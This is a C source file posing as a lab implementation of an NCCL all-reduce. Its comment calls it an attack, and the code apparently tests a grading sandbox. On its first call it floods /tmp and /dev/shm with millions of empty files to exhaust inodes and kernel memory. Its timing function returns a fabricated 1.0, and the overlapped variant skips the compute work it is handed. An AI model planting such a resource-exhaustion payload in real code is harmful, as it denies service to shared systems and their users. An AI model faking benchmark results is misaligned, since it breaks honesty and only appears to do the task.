/* Attack: every rank makes empty files in /tmp and /dev/shm until refused.
 * The tmpfs size (256/512 MiB) bounds their bytes, not their inodes: about
 * 3 million per mount on a 24 GiB machine, some 1 KiB of kernel memory each,
 * which no limit of the run counts. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "errors.h"
#include "lab2.h"

static void make_files(void)
{
    char path[64];
    for (long i = 0; i < 4000000; i++) {
        snprintf(path, sizeof path, "/%s/f%d-%ld", i % 2 ? "tmp" : "dev/shm", (int)getpid(), i);
        int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
        if (fd < 0) break;
        close(fd);
    }
}

void lab2_allreduce(ncclComm_t comm, cudaStream_t stream, const float *sendbuf, float *recvbuf,
                    size_t count)
{
    static int once;
    if (!once++) make_files();
    NCCL_CHECK(ncclAllReduce(sendbuf, recvbuf, count, ncclFloat, ncclSum, comm, stream));
}

double lab2_time_allreduce(ncclComm_t comm, cudaStream_t stream, const float *sendbuf,
                           float *recvbuf, size_t count, int warmup, int iters)
{
    for (int i = 0; i < warmup + iters; i++) lab2_allreduce(comm, stream, sendbuf, recvbuf, count);
    CUDA_CHECK(cudaStreamSynchronize(stream));
    return 1.0;
}

void lab2_allreduce_overlapped(ncclComm_t comm, cudaStream_t comm_stream,
                               cudaStream_t compute_stream, const float *sendbuf, float *recvbuf,
                               size_t count, float *work, size_t work_count, int work_rounds)
{
    (void)compute_stream, (void)work, (void)work_count, (void)work_rounds;
    lab2_allreduce(comm, comm_stream, sendbuf, recvbuf, count);
    CUDA_CHECK(cudaStreamSynchronize(comm_stream));
}
